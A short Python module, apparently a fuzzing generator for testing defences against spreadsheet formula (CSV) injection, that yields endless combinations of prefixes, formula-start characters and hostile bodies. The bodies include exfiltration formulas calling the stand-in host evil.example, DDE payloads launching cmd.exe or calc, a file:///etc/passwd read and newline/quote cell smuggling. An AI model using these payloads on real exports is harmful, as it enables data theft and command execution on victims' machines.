"""Cells that want to be formulas: every way that one can begin, behind all that hides its beginning."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count, product

BEFORE = (
    *("", " ", "  ", "\t", "\r", "\n", "\r\n", "\v", "\f", '"', '""', "\x1b", "\x1f", "\0"),
    *("\u00a0", "\u200b", "\u2060", "\ufeff", "\u202e", "\u00ad", "\u3000"),
)
BEGINS = (
    *("=", "+", "-", "@", "|", "%", "=-", "=+", "+=", "-=", "@=", "=="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"),
)
BODIES = (
    "1+{n}",
    "SUM(A1:A9)+{n}",
    'HYPERLINK("http://evil.example/{n}?x="&A1,"press")',
    'WEBSERVICE("http://evil.example/{n}")',
    "cmd|' /C calc'!A{n}",
    'DDE("soffice";"x";"{n}")',
    'IMPORTXML(CONCAT("http://evil.example/{n}",A1),"//a")',
    "'file:///etc/passwd'#$passwd.A{n}",
    'INDIRECT("A{n}")',
    "{{1;2}}*{n}",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!A{n}",
    '1+{n}","=2+{n}',
    "1+{n}\n=3+{n}",
    "1+{n}\r=4+{n}",
)
EACH = len(BEFORE) * len(BEGINS) * len(BODIES)


def hostile() -> Iterator[str]:
    """Give cells without end, no two alike: all combinations, then the same with other numbers."""
    for turn in count():
        for number, (before, begins, body) in enumerate(product(BEFORE, BEGINS, BODIES)):
            yield before + begins + body.format(n=turn * EACH + number)
